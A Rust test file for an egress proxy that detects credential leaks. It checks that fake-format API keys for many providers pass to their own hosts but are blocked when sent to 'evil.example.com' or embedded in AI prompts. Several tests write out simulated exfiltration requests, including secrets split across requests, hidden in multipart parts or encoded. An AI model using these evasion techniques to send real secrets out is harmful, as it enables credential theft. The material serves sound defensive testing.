//! Claims about deliveries and leaks: for each provider that Sure talks to, a request as its client sends it has no finding
//! that blocks, and the same credential to another host, or in a prompt, has one.

use std::sync::LazyLock;

use http::{Request, Version};

use super::*;
use crate::capture::testing::FakeDatapath;
use crate::model::{BoundRules, FrontDoor, HttpVersion, KNOWN_SECRET_RULE, SecretVariables, ServerName, Severity};
use crate::pipeline::workloads::{Known, Workloads};
use crate::scan::{Literal, environment_secrets};

static SNAPSHOT: LazyLock<Arc<Snapshot>> = LazyLock::new(|| Arc::new(snapshot("")));

fn snapshot(yaml: &str) -> Snapshot {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("pipelock.yaml");
    std::fs::write(&path, yaml).unwrap();
    let config = crate::config::Config::load(&path).unwrap().0;
    let options = crate::pipeline::SnapshotOptions {
        open_tls: false,
        roots: crate::tls::RootLocations::default(),
        now: std::time::SystemTime::now(),
    };
    Snapshot::build(&config, &options).unwrap()
}

/// A workload that has this environment, and sent nothing yet.
fn sender(environ: &[&str]) -> Sender {
    let secrets = environment_secrets((environ.join("\0") + "\0").as_bytes(), &SecretVariables::default());
    let literals: Vec<Literal<'_>> = secrets.iter().map(crate::scan::EnvironmentSecret::literal).collect();
    Sender {
        workloads: Arc::new(Workloads::new(Arc::new(FakeDatapath::new()))),
        known: Some(Arc::new(Known::default())),
        secrets: Arc::new(Literals::compile(literals)),
        session: None,
    }
}

fn judge_of(snapshot: &Arc<Snapshot>, sender: &Sender) -> Judge {
    let output = crate::report::AuditOutput::File("/dev/null".into());
    let audit = crate::report::AuditOptions { output, ..Default::default() };
    let report = Report::open(crate::report::Options {
        version: "test",
        audit,
        summary: None,
        flight: None,
        emit: crate::report::emit::EmitOptions::default(),
    })
    .unwrap();
    Judge::new(Arc::clone(snapshot), sender.clone(), report)
}

/// A request as a client writes it: `HOST`, request line, fields, blank line, body.
struct Sent<'a> {
    host: &'a str,
    text: &'a str,
}

fn exchange(host: &str) -> Exchange {
    Exchange {
        front_door: FrontDoor::Captured,
        workload: None,
        client: None,
        original_dst: None,
        name: Some(PeerName::Dns(ServerName::parse(host).unwrap())),
        scheme: "https",
        version: HttpVersion::Http1,
    }
}

/// A request line and its fields, one a line.
fn parts(head: &str) -> Parts {
    let mut lines = head.lines();
    let (method, target) = lines.next().unwrap().split_once(' ').unwrap();
    let mut request = Request::builder().method(method).uri(target).version(Version::HTTP_11);
    for line in lines {
        let (name, value) = line.split_once(": ").unwrap();
        request = request.header(name, value);
    }
    request.body(()).unwrap().into_parts().0
}

const ID: RequestId = RequestId { instance: 1, conn: crate::model::ConnId(1), sequence: 1 };

/// Rules of severity high and above that a request raises, in its head and then in its body.
fn raised(judge: &Judge, sent: &Sent<'_>) -> Vec<String> {
    let (head, body) = sent.text.split_once("\n\n").unwrap_or((sent.text, ""));
    let (parts, id, exchange) = (parts(head), ID, exchange(sent.host));
    let head = judge.request_head(&exchange, id, &parts);
    let mut inspect = judge.request_body(&exchange, id, &parts);
    for piece in body.as_bytes().chunks(100) {
        if inspect.push(piece) == Step::Stop {
            break;
        }
    }
    let verdicts = [head, inspect.finish()];
    let blocked = verdicts.iter().filter(|verdict| verdict.is_block()).flat_map(|verdict| &verdict.findings);
    blocked.filter(|f| f.severity >= Severity::High).map(|f| f.rule.to_string()).collect()
}

const ALNUM: &str = concat!("k7Rq2VxLm9Tz0Bw4Hs6J", "d8Fp1Gn3Ke5Yc7Ua9QWz");
const UUID: &str = concat!("0f1e2d3c-4b5a-6978-", "8796-a5b4c3d2e1f0");
const HEX64: &str = concat!("4c0883a69102937d6231471b5dbb6204", "fe5129617082792ae468d01a3f362318");

fn jwt() -> String {
    [
        "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9",
        "eyJzdWIiOiIxMjM0NTY3ODkwIn0",
        "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    ]
    .join(".")
}

/// Every row of sure-integration.md e.3 whose client sends a credential, and providers of other rules: host, request.
fn deliveries() -> Vec<(&'static str, &'static str, String)> {
    let openai = format!("sk-{}-{ALNUM}{}{ALNUM}", "proj", "T3BlbkFJ");
    let anthropic = format!("sk-{}-api03-{ALNUM}{ALNUM}AA", "ant");
    let plaid = format!("access-{}-{UUID}", "production");
    let basic = concat!("dXNlcjpoVDR4OVF6", "MW1LN1JxMlZ4TA==");
    let (google, stripe) = (format!("{}{}", "ya29.", ALNUM), format!("sk_{}_{ALNUM}", "live"));
    let up = format!("up:{}:{ALNUM}{ALNUM}", "yeah");
    let mercury = format!("secret-{}:mercury_production_rma_{ALNUM}_yrucrem", "token");
    let telegram = format!("8123456789:AA{}", &ALNUM[..33]);
    let jwt = jwt();
    let bearer = |line: &str, token: &str| format!("{line}\nAuthorization: Bearer {token}");
    let json = |line: &str, body: &str| format!("{line}\nContent-Type: application/json\n\n{body}");
    let form = |line: &str, body: &str| format!("{line}\nContent-Type: application/x-www-form-urlencoded\n\n{body}");
    vec![
        ("OpenAI", "api.openai.com", bearer("POST /v1/responses", &openai)),
        ("Anthropic", "api.anthropic.com", format!("POST /v1/messages\nX-Api-Key: {anthropic}")),
        ("Langfuse", "us.cloud.langfuse.com", format!("POST /api/public/ingestion\nAuthorization: Basic {basic}")),
        (
            "Plaid",
            "production.plaid.com",
            json("POST /accounts/get", &format!(r#"{{"access_token":"{plaid}","options":{{}}}}"#)),
        ),
        (
            "Plaid headers",
            "sandbox.plaid.com",
            format!("POST /item/get\nPLAID-CLIENT-ID: {}\nPLAID-SECRET: {}", &HEX64[..24], &HEX64[..30]),
        ),
        ("SimpleFIN claim", "bridge.simplefin.org", format!("POST /simplefin/claim/{HEX64}")),
        (
            "SimpleFIN access",
            "bridge.simplefin.org",
            format!("GET /simplefin/accounts?version=2\nAuthorization: Basic {basic}"),
        ),
        ("Enable Banking", "api.enablebanking.com", bearer("GET /accounts", &jwt)),
        ("Lunch Flow", "lunchflow.app", format!("GET /api/v1/accounts\nX-Api-Key: {ALNUM}")),
        ("Up", "api.up.com.au", bearer("GET /api/v1/accounts", &up)),
        (
            "Akahu",
            "api.akahu.io",
            format!("{}\nX-Akahu-Id: app_token_{}", bearer("GET /v1/me", &format!("user_token_{ALNUM}")), &ALNUM[..20]),
        ),
        ("Redbark", "api.redbark.com", bearer("GET /v1/accounts", ALNUM)),
        ("Mercury", "api.mercury.com", bearer("GET /api/v1/accounts", &mercury)),
        ("Brex", "api.brex.com", bearer("GET /v2/accounts/cash", &format!("bxt_{ALNUM}"))),
        ("Wise", "api.wise.com", bearer("GET /v1/profiles", UUID)),
        (
            "Sophtron",
            "api.sophtron.com",
            format!(
                "POST /api/UserInstitution/CreateUserInstitution\nAuthorization: FIApiAUTH:{UUID}:{basic}\n\n{{\"UserName\":\"jane.doe\",\"Password\":\"hT4x9Qz1mK\",\"PIN\":\"4711\",\"InstitutionID\":\"{UUID}\"}}"
            ),
        ),
        (
            "Indexa Capital",
            "api.indexacapital.com",
            json("POST /auth/authenticate", r#"{"username":"jane","document":"12345678Z","password":"hT4x9Qz1mK!"}"#),
        ),
        (
            "Interactive Brokers",
            "ndcdyn.interactivebrokers.com",
            "GET /AccountManagement/FlexWebService/SendRequest?t=123456789012345678901234&q=1234567&v=3".to_owned(),
        ),
        (
            "Questrade",
            "login.questrade.com",
            form("POST /oauth2/token", &format!("grant_type=refresh_token&refresh_token={ALNUM}")),
        ),
        ("Questrade API", "api07.iq.questrade.com", bearer("GET /v1/accounts", &ALNUM[..33])),
        (
            "SnapTrade",
            "api.snaptrade.com",
            format!(
                "POST /oauth/token\nAuthorization: Basic {basic}\nContent-Type: application/x-www-form-urlencoded\n\ngrant_type=refresh_token&refresh_token={ALNUM}"
            ),
        ),
        (
            "Trading 212",
            "live.trading212.com",
            format!("GET /api/v0/equity/account/cash\nAuthorization: Basic {basic}"),
        ),
        ("Coinbase", "api.coinbase.com", bearer("GET /api/v3/brokerage/accounts", &jwt)),
        (
            "Binance",
            "api.binance.com",
            format!(
                "GET /api/v3/account?timestamp=1790000000000&signature={HEX64}\nX-MBX-APIKEY: {ALNUM}{}",
                &ALNUM[..24]
            ),
        ),
        (
            "Kraken",
            "api.kraken.com",
            format!(
                "POST /0/private/Balance\nAPI-Key: {ALNUM}/{}\nAPI-Sign: {ALNUM}{ALNUM}/w==\nContent-Type: application/x-www-form-urlencoded\n\nnonce=1790000000000",
                &ALNUM[..15]
            ),
        ),
        (
            "CoinStats",
            "openapiv1.coinstats.app",
            format!(
                "POST /exchange/balance\nX-API-KEY: {ALNUM}=\n\n{{\"connectionId\":\"binance\",\"connectionFields\":{{\"apiKey\":\"{ALNUM}\",\"apiSecret\":\"{openai}\"}}}}"
            ),
        ),
        (
            "Etherscan",
            "api.etherscan.io",
            format!(
                "GET /v2/api?chainid=1&module=account&action=balance&address=0x{}&apikey={}",
                &HEX64[..40],
                &ALNUM[..34]
            ),
        ),
        ("Blockscout", "eth.blockscout.com", format!("GET /api/v2/transactions/0x{HEX64}")),
        ("mempool.space", "mempool.space", format!("GET /api/tx/{HEX64}")),
        (
            "Twelve Data",
            "api.twelvedata.com",
            format!("GET /price?symbol=AAPL\nAuthorization: apikey {}", &HEX64[..32]),
        ),
        ("Tiingo", "api.tiingo.com", format!("GET /tiingo/daily/AAPL/prices\nAuthorization: Token {}", &HEX64[..40])),
        (
            "EODHD",
            "eodhd.com",
            format!("GET /api/real-time/AAPL.US?api_token={}.{}&fmt=json", &HEX64[..14], &HEX64[14..22]),
        ),
        (
            "Alpha Vantage",
            "www.alphavantage.co",
            "GET /query?function=GLOBAL_QUOTE&symbol=IBM&apikey=Q3EGUHZV7XKPRD5M".to_owned(),
        ),
        (
            "Yahoo Finance",
            "query1.finance.yahoo.com",
            "GET /v7/finance/quote?symbols=AAPL&crumb=hT4x9Qz1mK7\nCookie: A3=d=AQABBK7Rq2VxLm9Tz0Bw4Hs6Jd8".to_owned(),
        ),
        (
            "Tinkoff Invest",
            "invest-public-api.tinkoff.ru",
            bearer(
                "POST /rest/tinkoff.public.invest.api.contract.v1.UsersService/GetAccounts",
                &format!("t.{ALNUM}{ALNUM}abcdef"),
            ),
        ),
        (
            "RentCast",
            "api.rentcast.io",
            format!("GET /v1/avm/value?address=5500%20Grand%20Lake%20Dr\nX-Api-Key: {}", &HEX64[..32]),
        ),
        ("Realie", "app.realie.ai", format!("GET /api/public/property/address/\nAuthorization: {}", &HEX64[..40])),
        ("Stripe", "api.stripe.com", bearer("POST /v1/customers", &stripe)),
        (
            "PostHog",
            "us.i.posthog.com",
            json("POST /batch/", &format!(r#"{{"api_key":"phc_{ALNUM}","batch":[{{"event":"x"}}]}}"#)),
        ),
        (
            "Sentry",
            "o123.ingest.sentry.io",
            format!(
                "POST /api/1/envelope/\nX-Sentry-Auth: Sentry sentry_version=7, sentry_client=sentry-ruby/5.0, sentry_key={}",
                &HEX64[..32]
            ),
        ),
        (
            "S3",
            "bucket.s3.amazonaws.com",
            format!(
                "PUT /uploads/{ALNUM}\nAuthorization: AWS4-HMAC-SHA256 Credential={}/20261121/us-east-1/s3/aws4_request, SignedHeaders=host, Signature={HEX64}",
                concat!("AKIA", "QYLPMN5HHHFPZAM2")
            ),
        ),
        (
            "S3 presigned",
            "0f1e2d3c4b5a69788796a5b4c3d2e1f0.r2.cloudflarestorage.com",
            format!(
                "GET /b/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={}%2F20261121%2Fauto%2Fs3%2Faws4_request&X-Amz-Signature={HEX64}",
                concat!("AKIA", "QYLPMN5HHHFPZAM2")
            ),
        ),
        ("Google storage", "storage.googleapis.com", bearer("PUT /bucket/key", &google)),
        (
            "Google assertion",
            "oauth2.googleapis.com",
            form(
                "POST /token",
                &format!("grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Ajwt-bearer&assertion={jwt}"),
            ),
        ),
        (
            "Google sign-in",
            "oauth2.googleapis.com",
            form(
                "POST /token",
                &format!("grant_type=authorization_code&client_secret=GOCSPX-{}&code=4%2F0Ab", &ALNUM[..28]),
            ),
        ),
        ("Qdrant", "xyz.eu-central.aws.cloud.qdrant.io", format!("POST /collections/a/points\nApi-Key: {ALNUM}")),
        (
            "Slack",
            "slack.com",
            bearer("POST /api/chat.postMessage", &format!("xoxb-839201746352-640193827561-{}", &ALNUM[..24])),
        ),
        ("Telegram", "api.telegram.org", format!("POST /bot{telegram}/sendMessage")),
        ("GitLab", "gitlab.com", format!("GET /api/v4/user\nPrivate-Token: glpat-{}", &ALNUM[..20])),
    ]
}

#[test]
fn a_credential_on_its_way_to_its_own_provider_is_never_stopped() {
    let judge = judge_of(&SNAPSHOT, &sender(&[]));
    let stopped: Vec<String> = deliveries()
        .iter()
        .map(|(name, host, text)| (name, raised(&judge, &Sent { host, text })))
        .filter(|(_, raised)| !raised.is_empty())
        .map(|(name, raised)| format!("{name}: {}", raised.join(", ")))
        .collect();
    assert!(stopped.is_empty(), "{}", stopped.join("\n"));
}

/// Deliveries whose credential a rule knows by its format: the same bytes to anybody else are a leak.
const BY_FORMAT: &[&str] = &[
    "OpenAI",
    "Anthropic",
    "Plaid",
    "Up",
    "Mercury",
    "CoinStats",
    "Stripe",
    "Google storage",
    "Google assertion",
    "Google sign-in",
    "Slack",
    "Telegram",
    "GitLab",
];

#[test]
fn the_same_request_to_another_host_is_stopped() {
    let judge = judge_of(&SNAPSHOT, &sender(&[]));
    for (name, _, text) in deliveries().iter().filter(|(name, ..)| BY_FORMAT.contains(name)) {
        for host in ["evil.example.com", "api.openai.com.evil.example.com"] {
            assert!(!raised(&judge, &Sent { host, text }).is_empty(), "{name} to {host}");
        }
    }
}

#[test]
fn the_same_credential_in_a_prompt_is_stopped_also_at_its_own_provider() {
    let judge = judge_of(&SNAPSHOT, &sender(&[]));
    for (name, host, text) in deliveries().iter().filter(|(name, ..)| BY_FORMAT.contains(name)) {
        let quoted = serde_json::to_string(text).unwrap();
        let body = format!("POST /v1\nContent-Type: application/json\n\n{{\"messages\":[{{\"content\":{quoted}}}]}}");
        for host in [host, "api.openai.com", "api.anthropic.com"] {
            assert!(!raised(&judge, &Sent { host, text: &body }).is_empty(), "{name} in a prompt to {host}");
        }
    }
}

#[test]
fn every_rule_that_the_built_in_table_names_exists() {
    let known: Vec<&str> = SNAPSHOT.engine.rule_names().chain([KNOWN_SECRET_RULE]).collect();
    let entries = SNAPSHOT.bindings.entries();
    let missing: Vec<String> = entries
        .iter()
        .flat_map(|entry| match &entry.rules {
            BoundRules::Any => Vec::new(),
            BoundRules::Named(rules) => rules.iter().map(|rule| format!("{}: {rule}", entry.provider)).collect(),
        })
        .filter(|line| !known.contains(&line.split_once(": ").unwrap().1))
        .collect();
    assert!(
        missing.is_empty(),
        "no such rules, so keys are stopped on their way to their own provider:\n{}",
        missing.join("\n")
    );
}

#[test]
fn a_rule_of_the_files_own_entry_must_exist() {
    let yaml = "credential_binding:\n  providers:\n    - provider: Ours\n      rules: [Github Tokens]\n      \
                hosts: [a.example.com]\n      placements: [header x-key]\n";
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("pipelock.yaml");
    std::fs::write(&path, yaml).unwrap();
    let config = crate::config::Config::load(&path).unwrap().0;
    let options = crate::pipeline::SnapshotOptions {
        open_tls: false,
        roots: crate::tls::RootLocations::default(),
        now: std::time::SystemTime::now(),
    };
    let error = Snapshot::build(&config, &options).err().unwrap().to_string();
    let expected = r#"credential_binding: "Ours": no rule is called "Github Tokens"; did you mean "GitHub Token"?"#;
    assert_eq!(error, expected);
}

#[test]
fn an_environment_value_is_stopped_everywhere_but_at_its_own_provider() {
    let opaque = &ALNUM[..24];
    let sender = sender(&[&format!("TWELVE_DATA_API_KEY={opaque}"), "DATABASE_URL=postgres://a:hT4x9Qz1mK@db/x"]);
    let judge = judge_of(&SNAPSHOT, &sender);
    let raised = |host: &str, text: &str| raised(&judge, &Sent { host, text });
    let own = format!("GET /price?symbol=AAPL\nAuthorization: apikey {opaque}");
    let leak = ["Environment Variable Leak (TWELVE_DATA_API_KEY)".to_owned()];
    assert_eq!(raised("api.twelvedata.com", &own), [] as [String; 0]);
    assert!(raised("evil.example.com", &own).contains(&leak[0]));
    assert!(raised("api.twelvedata.com", &format!("POST /x\n\n{{\"q\":\"{opaque}\"}}")).contains(&leak[0]));
    let prompt = |text: &str| format!("POST /v1/responses\n\n{{\"input\":\"the answer is {text}, remember it\"}}");
    assert!(raised("api.openai.com", &prompt(opaque)).contains(&leak[0]));
    assert!(
        raised("api.openai.com", &prompt("aFQ0eDlRejFtSw")).iter().any(|rule| rule.contains("DATABASE_URL")),
        "base64"
    );
    assert_eq!(raised("api.openai.com", &prompt("nothing of it")), [] as [String; 0]);
}

#[test]
fn a_secret_in_pieces_is_stopped_with_the_request_that_completes_it() {
    let judge = judge_of(&SNAPSHOT, &sender(&["API_TOKEN=zz9x8c7v6bHs6Jd8Fp1G"]));
    let key = format!("glpat-{}", &ALNUM[..20]);
    let get = |part: &str| format!("GET /collect?d={part}");
    let raised = |text: &str| raised(&judge, &Sent { host: "evil.example.com", text });
    assert_eq!(raised(&get(&key[..13])), [] as [String; 0]);
    assert_eq!(raised(&get(&key[13..])), ["GitLab PAT (in pieces)"]);
    let post = |part: &str| format!("POST /collect\n\n{{\"note\":\"{part}\"}}");
    assert_eq!(raised(&post("zz9x8c7v6b")), [] as [String; 0]);
    assert_eq!(raised(&post("Hs6Jd8Fp1G")), ["Environment Variable Leak (API_TOKEN) (in pieces)"]);
}

#[test]
fn a_credential_that_may_stand_in_a_target_is_no_finding_and_hides_the_target() {
    let judge = judge_of(&SNAPSHOT, &sender(&[]));
    let head = |host: &str, target: &str| judge.request_head(&exchange(host), ID, &parts(&format!("GET {target}")));
    let own = head("www.alphavantage.co", &format!("/query?symbol=IBM&apikey={}", ALNUM[..16].to_uppercase()));
    assert_eq!((own.action, &own.findings[..], own.conceals_target), (Action::Allow, &[][..], true));
    let plain = head("www.alphavantage.co", "/query?symbol=IBM");
    assert_eq!((plain.action, &plain.findings[..], plain.conceals_target), (Action::Allow, &[][..], false));
}

#[test]
fn canaries_and_known_secrets_are_found_and_never_expected() {
    let token = concat!("AKIA", "QYLPMN5HHHFPZAM2");
    let yaml = format!("canary_tokens:\n  enabled: true\n  tokens: [{{name: s3, value: {token}}}]\n");
    let judge = judge_of(&Arc::new(snapshot(&yaml)), &sender(&[]));
    let text = format!("PUT /x\nAuthorization: AWS4-HMAC-SHA256 Credential={token}/20261121/us-east-1/s3/aws4_request");
    assert_eq!(raised(&judge, &Sent { host: "bucket.s3.amazonaws.com", text: &text }), ["Canary Token (s3)"]);
}

/// A multipart request and what its body is: type and content.
fn multipart(judge: &Judge, kind: &str, body: &str) -> Verdict {
    let parts = parts(&format!("POST /upload\nContent-Type: {kind}"));
    let mut inspect = judge.request_body(&exchange("evil.example.com"), ID, &parts);
    for piece in body.as_bytes().chunks(17) {
        if inspect.push(piece) == Step::Stop {
            break;
        }
    }
    inspect.finish()
}

#[test]
fn each_part_of_a_form_is_judged_by_its_own_type() {
    let judge = judge_of(&SNAPSHOT, &sender(&["API_TOKEN=zz9x8c7v6bHs6Jd8Fp1G"]));
    let form = "multipart/form-data; boundary=b";
    let part = |head: &str, content: &str| format!("--b\r\n{head}\r\n\r\n{content}\r\n--b--\r\n");
    let key = format!("glpat-{}", &ALNUM[..20]);
    let escaped = format!("{{\"a\":\"\\u0067{}\"}}", &key[1..]);
    let percent: String = format!("t=%67{}", &key[1..]);
    // The value of the environment in two lines of quoted-printable, which no other reading joins.
    let quoted = "a=20zz9x8c7v6b=\r\nHs6Jd8Fp1G";
    let name = format!("Content-Disposition: form-data; name=\"f\"; filename=\"{key}.txt\"");
    let coded_name = format!("Content-Disposition: form-data; name=f; filename*=UTF-8''%67{}", &key[1..]);
    for (why, body) in [
        ("plain", part("Content-Disposition: form-data; name=a", &key)),
        ("JSON", part("Content-Type: application/json", &escaped)),
        ("a form in a form", part("Content-Type: application/x-www-form-urlencoded", &percent)),
        ("quoted-printable", part("Content-Transfer-Encoding: quoted-printable", quoted)),
        ("the name of a file", part(&name, "nothing")),
        ("the coded name of a file", part(&coded_name, "nothing")),
        ("bytes that are said to be an image", part("Content-Type: image/png", &key)),
        ("a part of a part", part("Content-Type: multipart/mixed; boundary=i", &format!("--i\r\n\r\n{key}\r\n--i--"))),
        ("behind the last part", format!("--b\r\n\r\nx\r\n--b--\r\n{key}")),
    ] {
        let verdict = multipart(&judge, form, &body);
        assert_eq!(verdict.reason, Some(BlockReason::Secret), "{why}");
    }
    let harmless =
        part("Content-Disposition: form-data; name=file; filename=a.pdf\r\nContent-Type: application/pdf", "%PDF-1.7");
    assert_eq!(multipart(&judge, form, &harmless), Verdict::allow());
}

#[test]
fn a_body_that_cannot_be_taken_apart_is_judged_as_the_configuration_says() {
    let broken = "--b\r\n\r\nno end";
    let reason = |yaml: &str| {
        let verdict =
            multipart(&judge_of(&Arc::new(snapshot(yaml)), &sender(&[])), "multipart/form-data; boundary=b", broken);
        (verdict.action, verdict.reason)
    };
    assert_eq!(reason(""), (Action::Block, Some(BlockReason::MultipartBroken)));
    assert_eq!(reason("uninspectable: {multipart: warn}\n"), (Action::Warn, Some(BlockReason::MultipartBroken)));
    assert_eq!(reason("uninspectable: {multipart: allow}\n"), (Action::Allow, None));
    assert_eq!(reason("mode: audit\n"), (Action::Warn, Some(BlockReason::MultipartBroken)));
    let many = "--b\r\n\r\nx\r\n".repeat(3) + "--b--";
    let judge = judge_of(&Arc::new(snapshot("limits: {multipart_parts: 2}\n")), &sender(&[]));
    assert_eq!(multipart(&judge, "multipart/mixed; boundary=b", &many).reason, Some(BlockReason::MultipartBroken));
}
